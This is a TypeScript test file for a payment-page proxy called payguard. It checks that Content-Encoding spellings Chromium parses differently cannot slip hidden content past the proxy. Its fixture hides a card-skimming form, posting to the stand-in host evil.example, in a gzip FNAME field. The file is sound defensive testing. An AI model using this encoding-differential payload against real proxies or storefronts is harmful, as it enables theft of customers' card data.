/**
 * The Content-Encoding oracle (issue 17, class 1; docs/headers.md "Content-Encoding"): for every
 * spelling of the header, what Chromium renders from the upstream's bytes against what a real
 * payguard does with the same response on a protected route. payguard must either refuse (the block
 * page, 502) or serve exactly the page it decoded and judged, and Chromium must render that page.
 *
 * The bodies are built as an attacker who knows RFC 9110 would build them: every item a lenient
 * reader takes for a coding (JavaScript's trim, any case) is applied, and every gzip layer carries
 * live markup in its header's FNAME field (a foreign card form). A reader that decodes sees the
 * clean page; a reader that does not renders the form. Chromium decodes only when every item is a
 * coding it knows (gzip, x-gzip, deflate, br, zstd; space and tab trimmed; empty items kept), so
 * "gzip, identity", "gzip," and ", gzip" render the form (the named cases below show it first).
 *
 * Real parts only: the storefront and payguard listen on 127.0.0.1 (free ports), Chromium loads the
 * page once straight from the storefront and once through payguard. A failure prints the seed and
 * path: replay with ORACLE_SEED=<seed> ORACLE_PATH=<path>; ORACLE_RUNS sets the number of spellings.
 */
import zlib from 'node:zlib';
import fc from 'fast-check';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchChromium } from '../helpers/chromium.js';
import { startStorefront, type Storefront } from '../helpers/upstreams.js';
import { startHarness, type Harness } from './support.js';

const RUNS = Number(process.env.ORACLE_RUNS ?? 40);
/** Bounds every wait on the browser (a hung load is a reading of its own, not a timed assertion). */
const LOAD_TIMEOUT_MS = 10_000;

const CLEAN_PAGE = Buffer.from('<!DOCTYPE html><html><head><meta charset="utf-8"><title>clean</title></head><body><p>checkout</p></body></html>');
/** Live when the gzip bytes are rendered as they are: a card form posting to a host no policy names. */
const FNAME_MARKUP = '<form id="evil" action="https://evil.example/collect"><input name="cc"></form><!--';

/** The codings a lenient (RFC 9110, any-case, JavaScript-trim) reader decodes, and how to apply each. */
const ENCODERS: Record<string, (b: Buffer) => Buffer> = {
  gzip: gzipWithMarkup,
  'x-gzip': gzipWithMarkup,
  deflate: (b) => zlib.deflateSync(b),
  br: (b) => zlib.brotliCompressSync(b),
};

/** RFC 1952 with FLG.FNAME set: the file name field is written as is, before the compressed data. */
function gzipWithMarkup(data: Buffer): Buffer {
  const header = Buffer.from([0x1f, 0x8b, 8, 0x08, 0, 0, 0, 0, 0, 3]);
  const trailer = Buffer.alloc(8);
  trailer.writeUInt32LE(crc32(data), 0);
  trailer.writeUInt32LE(data.length >>> 0, 4);
  return Buffer.concat([header, Buffer.from(FNAME_MARKUP + '\0', 'latin1'), zlib.deflateRawSync(data), trailer]);
}

function crc32(data: Buffer): number {
  let crc = 0xffffffff;
  for (const byte of data) {
    crc ^= byte;
    for (let k = 0; k < 8; k++) crc = crc & 1 ? (crc >>> 1) ^ 0xedb88320 : crc >>> 1;
  }
  return (crc ^ 0xffffffff) >>> 0;
}

/** The body for a spelling: the clean page with every coding a lenient reader sees applied, first listed first. */
function bodyFor(lines: readonly string[]): Buffer {
  let body: Buffer = CLEAN_PAGE;
  for (const item of lines.join(',').split(',')) {
    const encode = ENCODERS[item.trim().toLowerCase()];
    if (encode) body = encode(body);
  }
  return body;
}

let storefront: Storefront;
let harness: Harness;
let browser: Browser;
let pageCount = 0;

beforeAll(async () => {
  storefront = await startStorefront();
  harness = await startHarness(storefront);
  browser = await launchChromium();
}, 300_000);

afterAll(async () => {
  await browser?.close();
  await harness?.stop();
  await storefront?.close();
});

/** What Chromium shows: the foreign form live, the clean page, its own error page, or something else (raw bytes as text). */
type Rendering = 'evil' | 'clean' | 'error' | 'other';

interface Reading {
  readonly status: number | undefined;
  readonly rendering: Rendering;
}

async function chromiumReading(url: string): Promise<Reading> {
  const tab = await browser.newPage();
  try {
    const response = await tab.goto(url, { waitUntil: 'load', timeout: LOAD_TIMEOUT_MS }).catch(() => null);
    if (!response) return { status: undefined, rendering: 'error' };
    const rendering = (await tab.evaluate("document.querySelector('form#evil') ? 'evil' : document.title === 'clean' ? 'clean' : 'other'")) as Rendering;
    return { status: response.status(), rendering };
  } finally {
    await tab.close();
  }
}

/** The same response read by Chromium straight from the storefront and through payguard (block or rewrite route). */
async function bothReadings(lines: readonly string[], route: 'checkout' | 'rewrite' = 'checkout'): Promise<{ direct: Reading; proxied: Reading }> {
  const path = `/${route}/coding-${pageCount++}`;
  const headers: [string, string][] = [['content-type', 'text/html; charset=utf-8'], ...lines.map((l): [string, string] => ['content-encoding', l])];
  storefront.page(path, { headers, body: bodyFor(lines) });
  const direct = await chromiumReading(storefront.url + path);
  const proxied = await chromiumReading(harness.payguard.publicUrl + path);
  return { direct, proxied };
}

/**
 * The invariant: payguard refuses (502, the block page), or it serves, and then Chromium renders
 * through payguard exactly what it renders from the storefront, and that is the clean page payguard
 * judged (or Chromium's own error page, where nothing of the response is rendered at all).
 */
function expectAgreement(lines: readonly string[], { direct, proxied }: { direct: Reading; proxied: Reading }): void {
  const label = `Content-Encoding lines ${JSON.stringify(lines)}: direct ${JSON.stringify(direct)}, through payguard ${JSON.stringify(proxied)}`;
  expect(proxied.rendering, label).not.toBe('evil');
  if (direct.rendering === 'evil' || direct.rendering === 'other') expect(proxied.status, label).toBe(502);
  if (proxied.status !== 502) {
    expect(proxied.rendering, label).toBe(direct.rendering);
    expect(['clean', 'error'], label).toContain(proxied.rendering);
  }
}

function assertOptions(): fc.Parameters<unknown> {
  const seed = process.env.ORACLE_SEED === undefined ? undefined : Number(process.env.ORACLE_SEED);
  return { numRuns: RUNS, ...(seed === undefined ? {} : { seed }), ...(process.env.ORACLE_PATH ? { path: process.env.ORACLE_PATH } : {}) };
}

describe('Chromium decodes only when every item is a coding it knows (each cited in content-coding.ts)', () => {
  it.each([['gzip, identity'], ['identity, gzip'], ['gzip,'], [', gzip'], ['gzip, compress']])(
    '"%s": Chromium renders the gzip header\'s markup, payguard refuses',
    async (value) => {
      const readings = await bothReadings([value]);
      expect(readings.direct.rendering).toBe('evil');
      expect(readings.proxied.status).toBe(502);
      expectAgreement([value], readings);
    },
    60_000,
  );

  it('gzip and identity on separate lines: the lines are one list, read the same way', async () => {
    const readings = await bothReadings(['gzip', 'identity']);
    expect(readings.direct.rendering).toBe('evil');
    expect(readings.proxied.status).toBe(502);
  }, 60_000);

  it.each([['gzip'], ['GZIP'], ['X-Gzip'], ['\tgzip '], ['deflate'], ['br'], ['gzip, br'], ['identity'], ['']])(
    '"%s": Chromium decodes as payguard does, and the clean page is served',
    async (value) => {
      const readings = await bothReadings([value]);
      expect(readings.direct.rendering).toBe('clean');
      expect(readings.proxied).toEqual({ status: 200, rendering: 'clean' });
    },
    60_000,
  );

  it('a coding payguard cannot decode on Node 20 (zstd) is refused, never forwarded unjudged', async () => {
    // Chromium would try to decode it; payguard has no zstd decoder on Node 20 (and on Node 22 these
    // bytes are not zstd: a decoding error), so it must not pass the bytes on.
    const path = `/checkout/coding-${pageCount++}`;
    storefront.page(path, { headers: [['content-type', 'text/html'], ['content-encoding', 'zstd']], body: CLEAN_PAGE });
    const proxied = await chromiumReading(harness.payguard.publicUrl + path);
    expect(proxied.status).toBe(502);
  }, 60_000);
});

/** Items of a generated spelling: known codings in any case, identity, empty, unknown, parameters, quotes. */
const ITEMS = ['gzip', 'GZIP', 'Gzip', 'x-gzip', 'X-GZIP', 'deflate', 'Deflate', 'br', 'BR', 'identity', 'IDENTITY', '', 'compress', 'foo', 'gzip;q=1', '"gzip"', 'gzip identity'];
/** Whitespace around an item: HTTP's (space, tab) and U+00A0, which JavaScript's trim eats and Chromium does not. */
const PADDING = ['', ' ', '\t', '  ', ' \t', '\u00a0'];

const item = fc.tuple(fc.constantFrom(...PADDING), fc.constantFrom(...ITEMS), fc.constantFrom(...PADDING)).map(([a, b, c]) => a + b + c);
/** 1 to 3 items spread over 1 to 3 lines (each line a non-empty run of items joined with ','). */
const spelling = fc.array(item, { minLength: 1, maxLength: 3 }).chain((items) =>
  fc.array(fc.boolean(), { minLength: items.length - 1, maxLength: items.length - 1 }).map((breaks) => {
    const lines: string[] = [items[0]!];
    breaks.forEach((newLine, i) => {
      if (newLine) lines.push(items[i + 1]!);
      else lines[lines.length - 1] += ',' + items[i + 1]!;
    });
    return lines;
  }),
);

/** Only codings Chromium and payguard both decode, at most two stacked (LIMITS.maxContentCodings): the legitimate spellings. */
const legitimate = fc
  .array(fc.tuple(fc.constantFrom('', ' ', '\t'), fc.constantFrom('gzip', 'GZIP', 'x-gzip', 'deflate', 'DEFLATE', 'br'), fc.constantFrom('', ' ', '\t')), { minLength: 1, maxLength: 2 })
  .map((items) => [items.map(([a, b, c]) => a + b + c).join(',')]);

describe('generated spellings', () => {
  it('never serves bytes Chromium renders differently from what payguard judged: refused, or the same clean page (block and rewrite routes)', async () => {
    const property = fc.asyncProperty(spelling, fc.constantFrom('checkout' as const, 'rewrite' as const), async (lines, route) => {
      expectAgreement(lines, await bothReadings(lines, route));
    });
    await fc.assert(property, assertOptions());
  }, 900_000);

  it('a legitimate page compressed with codings both decode is never broken: served, and rendered clean', async () => {
    const property = fc.asyncProperty(legitimate, async (lines) => {
      const { direct, proxied } = await bothReadings(lines);
      expect(direct.rendering, JSON.stringify(lines)).toBe('clean');
      expect(proxied, JSON.stringify(lines)).toEqual({ status: 200, rendering: 'clean' });
    });
    await fc.assert(property, { ...assertOptions(), numRuns: Math.max(10, Math.floor(RUNS / 3)) });
  }, 900_000);
});
